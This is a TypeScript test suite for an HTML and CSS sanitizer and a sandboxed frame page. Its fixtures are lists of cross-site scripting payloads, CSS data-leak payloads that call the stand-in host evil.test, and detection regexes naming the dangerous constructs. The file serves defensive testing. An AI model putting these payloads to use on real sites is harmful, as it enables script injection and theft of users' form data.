import fastify from 'fastify';
import { describe, expect, it } from 'vitest';
import { markupText, safeMarkup } from '../../../core/mini-apps/safe-markup.ts';
import { safeCss } from '../../../infrastructure/mini-apps/host/safe-css.ts';
import { sendFramePage } from '../../../infrastructure/sandbox/mini-apps/frame-page.ts';
import { parsedHtml } from '../../../infrastructure/site/parsed-html.ts';

/** What of markup reaches the page: elements that run, fetch, post, frame, name or cover, and attributes that do. */
const REACHES =
  /<(?:script|iframe|frame|object|embed|base|meta|link|form|input|button|select|textarea|svg|math|style|template|noscript|video|audio|source|track|canvas|dialog|portal|slot|marquee|isindex|applet|area|map|fencedframe)\b|\s(?:on\w+|id|name|style|srcdoc|action|formaction|autofocus|tabindex|accesskey|contenteditable|popover|popovertarget|is|slot|part|target="_(?:top|parent|self)"|ping|download|srcset|background|poster|http-equiv|nonce|usemap|xlink:href)(?:=|[\s>])|(?:href|src)="(?!\/(?![/\\])|https:\/\/|mailto:|tel:|data:image\/(?:png|gif|jpeg|webp);base64)/i;

const FRAGMENTS: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<script>pwned=1</script>'],
  ['a script of elsewhere', '<script src="https://evil.test/a.js"></script>'],
  ['a module', '<script type="module">import "https://evil.test/a.js"</script>'],
  ['a map of imports', '<script type="importmap">{"imports":{}}</script>'],
  ['a picture that fails', '<img src=x onerror="pwned=1">'],
  ['a picture that counts', '<img src="https://evil.test/p.gif" srcset="https://evil.test/q.gif 2x">'],
  ['a drawing that loads', '<svg onload="pwned=1"></svg>'],
  ['a drawing that moves', '<svg><animate onbegin="pwned=1" attributeName="x"></animate></svg>'],
  ['a drawing with a page', '<svg><foreignObject><iframe src="javascript:pwned=1"></iframe></foreignObject></svg>'],
  ['mathematics with a link', '<math href="javascript:pwned=1">x</math>'],
  ['a frame', '<iframe src="/ru/office"></iframe>'],
  ['a frame of a text', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'],
  ['an object', '<object data="https://evil.test/a.swf"></object>'],
  ['an embedded thing', '<embed src="https://evil.test/a.swf">'],
  ['a base', '<base href="https://evil.test/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test/">'],
  ['a policy of its own', '<meta http-equiv="content-security-policy" content="default-src *">'],
  ['a sheet of elsewhere', '<link rel="stylesheet" href="https://evil.test/a.css">'],
  ['a fetch ahead', '<link rel="prefetch" href="https://evil.test/a">'],
  ['a sheet', '<style>input[value^="a"]{background:url(https://evil.test/a)}</style>'],
  ['a style of an element', '<p style="position:fixed;inset:0;z-index:9999">x</p>'],
  [
    'a form',
    '<form action="https://evil.test/" method="post"><input name="password" autofocus><button>x</button></form>',
  ],
  ['a field of another form', '<input form="sign-in" formaction="https://evil.test/" type="submit">'],
  ['a button that posts', '<button formaction="javascript:pwned=1">x</button>'],
  ['a link that runs', '<a href="javascript:pwned=1">x</a>'],
  ['a link that runs, hidden', '<a href="java&#10;script:pwned=1">x</a>'],
  ['a link of data', '<a href="data:text/html,<script>pwned=1</script>">x</a>'],
  ['a link of a blob', '<a href="blob:https://site.test/1">x</a>'],
  ['a link without a scheme', '<a href="//evil.test/">x</a>'],
  ['a link with backslashes', '<a href="/\\evil.test/">x</a>'],
  ['a link over the page', '<a href="https://evil.test/" target="_top" ping="https://evil.test/">x</a>'],
  ['a name of the page', '<a id="config" name="config">x</a>'],
  ['a name of the document', '<img name="cookie">'],
  ['names that nest', '<form id="location"><input name="href"></form>'],
  ['focus', '<p tabindex="1" autofocus onfocus="pwned=1">x</p>'],
  ['a key', '<a accesskey="x" href="/ru" onclick="pwned=1">x</a>'],
  ['a text to write in', '<p contenteditable="true" onbeforeinput="pwned=1">x</p>'],
  ['a popover', '<div popover id="p" ontoggle="pwned=1">x</div><button popovertarget="p">x</button>'],
  ['a dialog', '<dialog open>x</dialog>'],
  ['details that listen', '<details open ontoggle="pwned=1"><summary>x</summary></details>'],
  ['media', '<video src="https://evil.test/a.mp4" poster="https://evil.test/a.png" onloadstart="pwned=1"></video>'],
  ['a template', '<template><script>pwned=1</script></template>'],
  ['markup without scripts', '<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript>'],
  ['a shadow of its own', '<div><template shadowrootmode="open"><script>pwned=1</script></template></div>'],
  ['an element of the site', '<x-app is="x-button" onclick="pwned=1" slot="a" part="b">x</x-app>'],
  ['a table that leaks', '<table background="https://evil.test/a.png"><tr><td>x</td></tr></table>'],
  ['text that scrolls', '<marquee onstart="pwned=1">x</marquee>'],
  ['markup that mutates', '<svg></p><style><a title="</style><img src=x onerror=pwned=1>">'],
  ['a comment that ends', '<!--><img src=x onerror=pwned=1>-->'],
  ['a map', '<map name="m"><area href="javascript:pwned=1"></map><img usemap="#m">'],
];

/** What of a sheet reaches the page: what fetches, speaks of the host, or stands over it. */
const SHEET_REACHES =
  /url\((?!['"]?data:image)|@(?:import|font-face|namespace|property|layer|document|charset)|:host|::slotted|::part|:root|:has\(|:visited|(?:^|[\s,}])(?:html|body)\b|position:\s*(?:fixed|sticky)|expression|behavior|-moz-binding|image-set\(\s*['"]h|attr\(|env\(|paint\(|\\|<\/style|cursor:|pointer-events|anchor\(|content-visibility|view-transition/i;

const SHEETS: readonly (readonly [name: string, css: string])[] = [
  ['another sheet', '@import "https://evil.test/a.css";'],
  ['a font', '@font-face{font-family:x;src:url(https://evil.test/a.woff2)}'],
  ['a picture', '.a{background:url(https://evil.test/a.png)}'],
  ['a picture in a set', '.a{background:image-set("https://evil.test/a.png" 1x)}'],
  ['a value of a field', 'input[value^="a"]{background:url(https://evil.test/a)}'],
  ['a cursor', '.a{cursor:url(https://evil.test/a.cur),auto}'],
  ['a mark of a list', 'ul{list-style:url(https://evil.test/a.png)}'],
  ['a filter', '.a{filter:url(https://evil.test/a.svg#x)}'],
  ['a mask', '.a{mask:url(https://evil.test/a.svg)}'],
  ['the host', ':host{display:none}'],
  ['what is around the host', ':host-context(body){display:none}'],
  ['the root', ':root{--accent:red}'],
  ['what was visited', 'a:visited{color:red}'],
  ['what has a field', 'div:has(input[value="1"]){background:red}'],
  ['a cover', '.a{position:fixed;inset:0}'],
  ['a cover that sticks', '.a{position:sticky;top:0}'],
  ['an old script', '.a{width:expression(alert(1));behavior:url(a.htc)}'],
  ['a binding', '.a{-moz-binding:url(https://evil.test/a.xml#x)}'],
  ['an attribute as a text', '.a::after{content:attr(data-secret)}'],
  ['an escape', '.a{background:u\\72l(https://evil.test/a)}'],
  ['the end of the sheet', '.a{content:"</style><script>pwned=1</script>"}'],
  ['presses that fall through', '.a{pointer-events:none}'],
];

describe('the attacks of markup', () => {
  it.each(FRAGMENTS)('reach nothing: %s [MKP-1, MKP-2, MKP-3, SEC-11]', (_, html) => {
    expect(markupText(safeMarkup(parsedHtml(html)))).not.toMatch(REACHES);
  });

  it('are attacks: each of them would reach the page as it came', () => {
    expect(FRAGMENTS.filter(([, html]) => !REACHES.test(html)).map(([name]) => name)).toEqual([]);
    expect(FRAGMENTS.length + SHEETS.length).toBeGreaterThanOrEqual(40);
  });
});

describe('the attacks of styles', () => {
  it.each(SHEETS)('reach nothing: %s [STY-1, STY-2, STY-3, STY-4, STY-5, SEC-12]', (_, css) => {
    expect(safeCss(css)).not.toMatch(SHEET_REACHES);
  });

  it('are attacks: each of them would reach the page as it came', () => {
    expect(SHEETS.filter(([, css]) => !SHEET_REACHES.test(css)).map(([name]) => name)).toEqual([]);
  });
});

it('the page of an application of the sandbox keeps itself in besides [HST-21]', async () => {
  const app = fastify();
  app.get('/', async (_request, reply) =>
    sendFramePage(reply, { language: 'en', title: '<b>', body: '', styles: '', script: '' }),
  );
  const { headers, body } = await app.inject('/');
  expect(body).toContain('<title>&lt;b></title>');
  const policy = String(headers['content-security-policy']).split('; ');
  for (const rule of ["default-src 'none'", "connect-src 'none'", 'sandbox allow-scripts'])
    expect(policy).toContain(rule);
});
